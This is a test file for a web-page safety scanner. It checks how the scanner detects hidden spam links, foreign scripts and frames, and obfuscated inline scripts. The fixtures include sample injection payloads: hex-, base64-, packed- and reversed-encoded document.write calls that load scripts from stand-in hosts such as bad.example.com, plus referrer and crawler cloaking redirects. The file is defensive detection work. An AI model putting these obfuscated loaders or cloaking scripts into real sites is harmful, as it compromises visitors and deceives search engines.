import { describe, expect, it } from 'vitest';
import { pageOf } from '../lists/testing/page-of';
import { readSafety } from '.';
import { hidingOf } from './hiding';

const read = (body: string, head = '') => readSafety(pageOf(`<html><head>${head}</head><body>${body}</body></html>`));
const foreign = '<a href="http://www.example.com/">某某娱乐</a>';

describe('a style', () => {
  it.each([
    ['display:none', 'display'],
    ['DISPLAY : NONE ;', 'display'],
    ['visibility:hidden', 'visibility'],
    ['position:absolute;left:-9999px', 'off-screen'],
    ['position: fixed; top: -1200px', 'off-screen'],
    ['transform:translateX(-9999px)', 'off-screen'],
    ['text-indent:-999em', 'text-indent'],
    ['height:0;overflow:hidden', 'zero-size'],
    ['width:1px;height:1px;overflow:hidden', 'zero-size'],
    ['font-size:0', 'zero-font'],
    ['opacity:0', 'transparent'],
    ['color:#fff;background:#FFFFFF', 'background-colour'],
    ['position:absolute;clip:rect(0,0,0,0)', 'zero-size'],
    ['clip: rect(1px, 1px, 1px, 1px)', 'zero-size'],
    ['clip-path:inset(50%)', 'zero-size'],
    ['transform:scale(0)', 'zero-size'],
    ['visibility:collapse', 'visibility'],
  ])('%s hides', (style, how) => {
    expect(hidingOf(style)).toBe(how);
  });

  it.each([
    'display:block',
    'margin-left:-10px',
    'text-indent:2em',
    'height:0.5em;overflow:hidden',
    'height:10px;overflow:hidden',
    'font-size:0.9em',
    'opacity:0.8',
    'color:#fff;background:#c00',
    'color:#fff;background:url(a.png)',
    'border:0;margin:0',
    'clip:rect(0,100px,50px,0)',
    'transform:scale(0.9)',
    'transform:scale(1.05)',
  ])('%s does not hide', (style) => {
    expect(hidingOf(style)).toBeNull();
  });
});

describe('hidden parts', () => {
  it('are told with how, words, foreign links and place', () => {
    expect(read(`<div id="ad" style="display:none">甲 ${foreign} <a href="/a/">乙</a></div>`).hidden).toEqual([
      {
        how: 'display',
        text: '甲 某某娱乐 乙',
        links: [{ text: '某某娱乐', url: 'http://www.example.com/' }],
        selector: '#ad',
      },
    ]);
  });

  it('are found by the page’s own style elements and in marquees of no size', () => {
    expect(
      read(`<div id="x1">${foreign}</div>`, '<style>#x1{position:absolute;top:-999px}</style>').hidden,
    ).toMatchObject([{ how: 'off-screen', selector: '#x1' }]);
    expect(read(`<marquee height=1 width=4 scrollamount=3000>${foreign}</marquee>`).hidden).toMatchObject([
      { how: 'marquee' },
    ]);
    expect(read(`<marquee width="600" scrollamount="3">通知</marquee>`).hidden).toEqual([]);
  });

  it('are found where a script hides them as soon as it runs', () => {
    const hide = 'document.getElementById("x9").style.display="none";';
    expect(read(`<div id="x9">${foreign}</div><script>${hide}</script>`).hidden).toMatchObject([
      { how: 'script', selector: '#x9' },
    ]);
    expect(read(`<div id="x9">${foreign}</div><script>function shut(){${hide}}</script>`).hidden).toEqual([]);
  });

  it('are found where scripts write the hiding element around them', () => {
    const script = (write: string) => `<script>document.write('${write}');</script>`;
    const page = `<p>甲</p>${script('<div style="display:none">')}<p>${foreign}</p>${script('</div>')}<p>乙</p>`;
    expect(read(page).hidden).toMatchObject([{ how: 'script', text: '某某娱乐', links: [{ text: '某某娱乐' }] }]);
  });

  it('are what only browsers without scripts show', () => {
    expect(read(`<noscript>甲${foreign}</noscript><noscript> </noscript><noscript>`).hidden).toEqual([
      {
        how: 'noscript',
        text: '甲 某某娱乐',
        links: [{ text: '某某娱乐', url: 'http://www.example.com/' }],
        selector: null,
      },
    ]);
  });

  it('are told once, and not at all when they hold nothing', () => {
    expect(
      read('<div style="display:none"><p style="display:none">甲乙</p></div><i style="display:none"></i>').hidden,
    ).toHaveLength(1);
  });

  it('are bounded in number, words and links', () => {
    const many = `<div style="display:none">${foreign.repeat(100)}${'字'.repeat(1000)}</div>`.repeat(100);
    const { hidden } = read(many);
    expect(hidden).toHaveLength(30);
    expect(hidden[0]?.links).toHaveLength(20);
    expect(hidden[0]?.text.length).toBeLessThanOrEqual(200);
  });
});

describe('foreign sources', () => {
  it('are scripts, frames, forms and refreshes of other hosts', () => {
    const page = `<script src="//a.example.com/x.js"></script><script src="/own.js"></script>
      <iframe src="http://b.example.com/"></iframe><form action="https://c.example.com/s"></form>
      <script src="http://www.example.gov.cn/own.js"></script>`;
    const { sources } = read(page, '<meta http-equiv="refresh" content="5;url=http://d.example.com/">');
    expect(sources).toEqual([
      { what: 'script', url: 'http://a.example.com/x.js' },
      { what: 'frame', url: 'http://b.example.com/' },
      { what: 'form', url: 'https://c.example.com/s' },
      { what: 'refresh', url: 'http://d.example.com/' },
    ]);
  });
});

describe('what inline scripts take and lead to', () => {
  it('is told as such', () => {
    const page = `<script>var s=document.createElement('script');s.src='//a.example.com/1.js';
      document.write("<iframe src='https://b.example.com/'><\\/iframe>");top.location.href="https://c.example.com/";</script>`;
    expect(read(page).sources).toEqual([
      { what: 'script', url: 'http://a.example.com/1.js', scripted: true },
      { what: 'frame', url: 'https://b.example.com/', scripted: true },
      { what: 'refresh', url: 'https://c.example.com/', scripted: true },
    ]);
    expect(read('<script>img.src="/a.png";location.href="/m/"</script>').sources).toEqual([]);
    const led = (source: string) => read(`<script>${source}</script>`).sources.map(({ url }) => url);
    expect(led('s.src="ht"+"tps://"+"js.example.to"+"p/a.js";')).toEqual(['https://js.example.top/a.js']);
    expect(led('window.open("http://c.example.com/");')).toEqual(['http://c.example.com/']);
    expect(read('<img onload="location.href=\'http://d.example.com/\'">').sources).toMatchObject([
      { what: 'refresh', url: 'http://d.example.com/' },
    ]);
  });
});

describe('frames', () => {
  it('without size are hidden', () => {
    const page =
      '<iframe src="http://b.example.com/" width="0" height=0></iframe><iframe src="http://c.example.com/" width="0.5" height="90"></iframe>';
    expect(read(page).sources).toEqual([
      { what: 'frame', url: 'http://b.example.com/', hidden: true },
      { what: 'frame', url: 'http://c.example.com/' },
    ]);
  });
});

describe('script marks', () => {
  const scripts = (source: string) => read(`<script>${source}</script>`).scripts;

  it('tell what is written in escapes and character codes, in clear', () => {
    const hex = [...'<script src="https://bad.example.com/1.js">']
      .map((c) => `\\x${c.charCodeAt(0).toString(16)}`)
      .join('');
    expect(scripts(`window["document"]["write"]("${hex}")`)).toEqual([
      { what: 'written', quotation: '<script src="https://bad.example.com/1.js">' },
    ]);
    const codes = [...'<iframe src="http://bad.example.com">'].map((c) => c.charCodeAt(0)).join(',');
    expect(scripts(`document.write(String.fromCharCode(${codes}))`)).toMatchObject([
      { what: 'written', quotation: '<iframe src="http://bad.example.com">' },
    ]);
    expect(
      scripts(`document.write(unescape("%3Cscript src='http://dcs.example.cn/a.js'%3E%3C/script%3E"))`),
    ).toMatchObject([{ what: 'written', quotation: expect.stringContaining('http://dcs.example.cn/a.js') }]);
  });

  it('tell what is packed, turned round or handled on loading, in clear', () => {
    const packed = `eval(function(p,a,c,k,e,d){}('3.4("<0 2=\\'5://1.6.7/8.9\\'></0>")',10,10,'script|js|src|document|write|https|bad|top|a|js'.split('|'),0,{}))`;
    expect(scripts(packed)).toMatchObject([{ what: 'written', quotation: expect.stringContaining('js.bad.top/a.js') }]);
    const slides = packed.replace("'script|", "'slides|");
    expect(scripts(slides)).toEqual([]);
    const turned = [...'https://js.bad.top/a.js'].reverse().join('');
    expect(scripts(`s.src="${turned}".split("").reverse().join("")`)).toEqual([
      { what: 'written', quotation: 'https://js.bad.top/a.js' },
    ]);
    const code = btoa('<script src="https://bad.example.com/1.js">');
    expect(read(`<img src=x onerror="document.write(atob('${code}'))">`).scripts).toHaveLength(1);
    expect(read('<img src="a.png" onerror="this.src=\'/images/none-to-show.png\'">').scripts).toEqual([]);
  });

  it('tell what is written in base64, in clear', () => {
    const code = btoa('document.write(\'<script src="https://bad.example.com/1.js">\')');
    const written = [{ what: 'written', quotation: '<script src="https://bad.example.com/1.js">\')' }];
    expect(scripts(`eval(atob("${code}"))`)).toEqual(written);
    expect(read(`<script src="data:text/javascript;base64,${code}"></script>`).scripts).toEqual(written);
    expect(scripts(`var icon="data:image/png;base64,${code}"`)).toEqual([]);
    expect(scripts(`show(atob("${btoa('hello hello hello')}"))`)).toEqual([]);
  });

  it('tell visitors from search engines that are sent elsewhere, and robots that are told from people', () => {
    expect(scripts('if(/baidu|sogou/.test(document.referrer)){location.href="http://bad.example.com/"}')).toMatchObject(
      [{ what: 'referrer' }],
    );
    expect(scripts('if(navigator.userAgent.match(/Baiduspider/i)){document.write("<a>")}')).toMatchObject([
      { what: 'spider' },
    ]);
  });

  it.each([
    ['leads to the mobile site', 'if(/iPhone|Android/.test(navigator.userAgent)){location.href="/m/"}'],
    ['counts where visitors come from', 'stat.ref=document.referrer;var e=["baidu","google"];send(stat)'],
    [
      'counts with a counter',
      'var here=location.href,r=document.referrer;document.write("<script src=//hm.baidu.com/h.js?r="+r+" width=360>")',
    ],
    ['escapes words of its own', 'var t="\\u4f60\\u597d\\u4f60\\u597d\\u4f60\\u597d\\u4f60\\u597d";alert(t)'],
  ])('are none of a script that %s', (_, source) => {
    expect(scripts(source)).toEqual([]);
  });
});

describe('an encoded title', () => {
  it('is written in character references', () => {
    expect(read('', '<title>&#20122;&#21338;&#20307;&#32946;</title>').encodedTitle).toBe(true);
    expect(read('', '<title>青石县&#183;人民政府</title>').encodedTitle).toBe(false);
  });
});

describe('bad input', () => {
  it.each([
    ['no page', ''],
    ['deep nesting', '<div style="display:none">'.repeat(5000)],
    ['a long style', `<div style="${'color:'.repeat(50_000)}">`],
    ['an open style element', `<style>${'#a{'.repeat(20_000)}`],
    ['endless escapes', `<script>${'\\x41'.repeat(7000)}${'%41 '.repeat(500)}</script>`],
    ['a broken address', '<iframe src="http://[::"></iframe><div style="display:none"><a href="//%">甲</a></div>'],
  ])('%s does no harm', (_, html) => {
    const begun = performance.now();
    expect(() => readSafety(pageOf(html))).not.toThrow();
    expect(performance.now() - begun).toBeLessThan(1000);
  });
});
